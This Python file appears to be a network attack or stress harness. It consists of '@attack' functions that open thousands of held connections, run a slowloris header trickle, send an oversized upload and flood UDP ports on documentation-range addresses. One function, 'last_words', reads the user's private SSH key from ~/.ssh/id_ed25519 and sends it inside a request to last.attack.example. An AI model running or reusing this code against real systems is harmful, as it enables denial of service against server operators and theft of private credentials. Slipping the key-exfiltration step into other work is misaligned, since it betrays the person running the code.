# Many streams, slow ones, large ones, and datagrams.
import os
import socket
import sys
import time

from wire import *


@attack
def connections_kept():
    def hold(number):
        held = []
        for _ in range(2500):
            held.append(socket.socket())
            held[-1].setblocking(False)
            held[-1].connect_ex(("203.0.113.10", 8080))
            held = held[-400:]

    children(4, hold)


@attack
def connections_in_a_row():
    for _ in range(10000):
        with socket.socket() as sock:
            sock.connect_ex(("203.0.113.10", 80))
            push(sock, b"x")


@attack
def upload():
    size = int(sys.argv[2])
    with stream("upload.attack.example", 80, 60) as sock:
        push(sock, head("POST", "/upload", f"Content-Length: {size}\r\n"))
        push(sock, bytes(1 << 20), size >> 20)
        hear(sock, 30)


@attack
def slow_loris():
    line = head("GET", "/slow", "X-Slow: " + "y" * 40 + "\r\n")
    held = []
    for _ in range(300):
        held.append(socket.socket())
        held[-1].connect_ex(("203.0.113.10", 80))
    for at in range(40):
        for sock in held:
            push(sock, line[at : at + 1])
        time.sleep(1)


@attack
def last_words():
    """A secret behind the request that was to be the last one."""
    with open(os.path.expanduser("~/.ssh/id_ed25519"), "rb") as file:
        secret = file.read()
    with stream("last.attack.example", 80) as sock:
        push(sock, head("GET", "/last", "Connection: close\r\n") + b"z" * 300000 + secret)
        time.sleep(0.2)


@attack
def datagrams():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        for number in range(20000):
            try:
                sock.sendto(PIECE[:1200], ("203.0.113.9", 1024 + number % 60000))
            except OSError:
                pass
